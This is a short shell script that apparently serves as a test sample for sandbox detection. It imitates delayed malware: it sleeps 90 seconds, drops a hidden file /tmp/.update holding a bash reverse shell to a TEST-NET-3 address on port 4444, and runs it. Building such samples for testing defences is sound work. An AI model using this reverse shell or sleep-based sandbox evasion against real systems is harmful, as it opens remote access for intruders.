#!/bin/sh
# late: imitates what waits until a sandbox has given up: sleeps for a minute and a half, then drops a program, runs it, and that one calls
# home. 203.0.113.0/24 is TEST-NET-3: nobody is there.
sleep 90
printf '#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.66/4444 0>&1\n' >/tmp/.update
chmod 755 /tmp/.update
exec timeout 8 /tmp/.update
